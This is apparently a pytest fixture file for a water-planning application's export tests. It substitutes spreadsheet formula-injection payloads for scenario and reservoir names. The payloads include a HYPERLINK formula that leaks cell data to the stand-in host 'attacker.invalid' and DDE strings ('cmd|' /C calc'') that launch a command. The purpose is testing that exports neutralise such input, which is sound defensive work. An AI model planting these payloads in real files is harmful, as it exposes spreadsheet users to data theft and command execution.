"""Scenarios for the export tests: the small example, and the same with hostile names."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from waterplanner.model.fileio import load_scenario
from waterplanner.model.scenario import Scenario

EXAMPLE = Path(__file__).resolve().parents[1] / "data" / "two_reservoirs.wplan"

HOSTILE = {
    "scenario": '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for details")',
    "upper": "=cmd|' /C calc'!A0",
    "fields": "+1+2",
    "lake": "@SUM(1+1)*cmd|' /C calc'!A0",
    "river": "-2+3+cmd|' /C calc'!A0",
    "mid": "\t=1+1",
    "sea": "\r=1+1",
    "local": "=1+1",
    "country": "=1+1",
}
"""Names a spreadsheet would run as formulas (or DDE calls) if they were written as such."""


@pytest.fixture
def hostile_names() -> dict[str, str]:
    return dict(HOSTILE)


@pytest.fixture
def hostile_file(tmp_path: Path) -> Path:
    """The example scenario with formula-like names everywhere a name can go, and a
    reservoir whose id starts with '-' (ids allow letters, digits, '_' and '-')."""
    doc = json.loads(EXAMPLE.read_text(encoding="utf-8"))
    doc["metadata"]["name"] = HOSTILE["scenario"]
    for node in doc["nodes"]:
        node["name"] = HOSTILE[node["id"]]
        if node["id"] == "upper":
            node["local_name"] = HOSTILE["local"]
            node["country"] = HOSTILE["country"]
    text = json.dumps(doc, ensure_ascii=False).replace('"upper"', '"-upper"')
    path = tmp_path / "hostile.wplan"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def hostile(hostile_file: Path) -> Scenario:
    return load_scenario(hostile_file)
